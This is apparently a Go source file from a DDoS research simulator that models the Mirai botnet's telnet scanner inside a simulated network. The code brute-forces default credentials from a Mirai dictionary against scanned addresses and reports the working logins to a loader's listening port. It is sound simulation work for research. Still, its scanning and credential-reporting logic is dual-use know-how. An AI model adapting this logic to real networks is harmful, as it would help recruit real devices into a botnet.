package mirai

import (
	"net/netip"
	"strings"

	"ddosim/internal/binaries/telnetd"
	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// srcScan labels the scanner's probe ticks.
var srcScan = sim.NewSource("scanner.probe")

// ScanListenPort is where the loader accepts victim reports, as in
// Mirai's scanListen utility.
const ScanListenPort = 48101

// credsPerTarget bounds dictionary attempts per discovered host,
// mirroring Mirai's randomized subset of telnetd.MiraiDictionary.
const credsPerTarget = 6

// ScanConfig parameterizes Mirai's telnet scanner — the baseline
// recruitment vector (dictionary attacks on default credentials) the
// paper contrasts with memory-error exploitation.
type ScanConfig struct {
	// Enabled turns the scanner on.
	Enabled bool
	// Prefix is the IPv4 range scanned for open telnet.
	Prefix netip.Prefix
	// Period is the delay between scan probes. Default 2 s.
	Period sim.Time
	// ReportTo is the loader's scanListen endpoint.
	ReportTo netip.AddrPort
	// Skip lists addresses never probed — Mirai hardcodes its own
	// infrastructure (and some address ranges) as off-limits.
	Skip []netip.Addr
}

func (c *ScanConfig) skipped(a netip.Addr) bool {
	for _, s := range c.Skip {
		if s == a {
			return true
		}
	}
	return false
}

func (c *ScanConfig) normalize() {
	if c.Period <= 0 {
		c.Period = 2 * sim.Second
	}
}

// Scanner probes random addresses for open telnet, brute-forces the
// dictionary, and reports working credentials to the loader. Both
// bots and the attacker's seed process run one.
type Scanner struct {
	cfg ScanConfig
	p   *container.Process

	sequential bool
	nextSeq    netip.Addr
	stopAfter  int

	// Counters for tests and experiments.
	Probes   uint64
	Hits     uint64
	Reported uint64
}

// NewScanner creates a random-order scanner (the bot behaviour).
func NewScanner(p *container.Process, cfg ScanConfig) *Scanner {
	cfg.normalize()
	return &Scanner{cfg: cfg, p: p}
}

// NewSeedScanner creates a sequential scanner that stops after
// stopAfter successes — how the attacker seeds patient zero.
func NewSeedScanner(p *container.Process, cfg ScanConfig, stopAfter int) *Scanner {
	cfg.normalize()
	return &Scanner{
		cfg:        cfg,
		p:          p,
		sequential: true,
		nextSeq:    cfg.Prefix.Addr(),
		stopAfter:  stopAfter,
	}
}

// Start arms the scan ticker.
func (s *Scanner) Start() {
	t := s.p.NewTicker(s.cfg.Period, srcScan, s.probe)
	t.Start()
}

func (s *Scanner) done() bool {
	return s.stopAfter > 0 && int(s.Reported) >= s.stopAfter
}

func (s *Scanner) probe() {
	if !s.p.Alive() || s.done() {
		return
	}
	target := s.pickTarget()
	if !target.IsValid() {
		return
	}
	s.Probes++
	s.tryCreds(target, credsPerTarget)
}

func (s *Scanner) pickTarget() netip.Addr {
	if s.sequential {
		a := s.nextSeq.Next()
		if !s.cfg.Prefix.Contains(a) {
			a = s.cfg.Prefix.Addr().Next()
		}
		s.nextSeq = a
		if s.cfg.skipped(a) {
			return netip.Addr{}
		}
		return a
	}
	// Random host within the prefix (IPv4).
	bits := 32 - s.cfg.Prefix.Bits()
	if bits <= 0 || bits > 16 {
		return netip.Addr{}
	}
	hosts := 1 << uint(bits)
	n := s.p.RNG().Intn(hosts-2) + 1 // skip network and broadcast
	base := s.cfg.Prefix.Addr().As4()
	v := uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])
	v += uint32(n)
	addr := netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
	if addr == s.p.Node().Addr4() || s.cfg.skipped(addr) {
		return netip.Addr{} // never scan ourselves or the C&C
	}
	return addr
}

// tryCreds attempts a randomly-drawn dictionary entry against target
// (Mirai samples its credential table randomly per attempt); on
// failure it retries with a fresh connection until the attempt budget
// runs out.
func (s *Scanner) tryCreds(target netip.Addr, remaining int) {
	if remaining <= 0 || !s.p.Alive() || s.done() {
		return
	}
	cred := telnetd.MiraiDictionary[s.p.RNG().Intn(len(telnetd.MiraiDictionary))]
	s.p.DialTCP(netip.AddrPortFrom(target, 23), func(c *netsim.TCPConn, err error) {
		if err != nil {
			return // port closed or host absent: move on
		}
		var transcript strings.Builder
		stage := 0
		c.SetDataHandler(func(data []byte) {
			transcript.Write(data)
			text := transcript.String()
			switch {
			case stage == 0 && strings.Contains(text, "login: "):
				stage = 1
				_ = c.Send([]byte(cred.User + "\n"))
			case stage == 1 && strings.Contains(text, "Password: "):
				stage = 2
				_ = c.Send([]byte(cred.Pass + "\n"))
			case stage == 2 && strings.Contains(text, "$ "):
				stage = 3
				s.Hits++
				c.Close()
				s.report(target, cred)
			case stage == 2 && strings.Contains(text, "Login incorrect"):
				stage = 3
				c.Close()
				s.tryCreds(target, remaining-1)
			}
		})
		c.SetCloseHandler(func(error) {})
	})
}

// seedBehavior runs a sequential seed scanner as an attacker-side
// process — how the botmaster plants patient zero before bot-driven
// spreading takes over.
type seedBehavior struct {
	cfg       ScanConfig
	stopAfter int
	sc        *Scanner
}

// SeedScannerBehavior wraps a seed scanner as a container process.
func SeedScannerBehavior(cfg ScanConfig, stopAfter int) container.Behavior {
	return &seedBehavior{cfg: cfg, stopAfter: stopAfter}
}

// Name implements container.Behavior.
func (s *seedBehavior) Name() string { return "seed-scan" }

// Start implements container.Behavior.
func (s *seedBehavior) Start(p *container.Process) {
	s.sc = NewSeedScanner(p, s.cfg, s.stopAfter)
	s.sc.Start()
}

// Stop implements container.Behavior.
func (s *seedBehavior) Stop(*container.Process) {}

// report sends "victim <ip> <user> <pass>" to the loader's
// scanListen port.
func (s *Scanner) report(target netip.Addr, cred telnetd.Cred) {
	if s.done() {
		return
	}
	s.p.DialTCP(s.cfg.ReportTo, func(c *netsim.TCPConn, err error) {
		if err != nil {
			return
		}
		s.Reported++
		_ = c.Send([]byte("victim " + target.String() + " " + cred.User + " " + cred.Pass + "\n"))
		c.Close()
	})
}
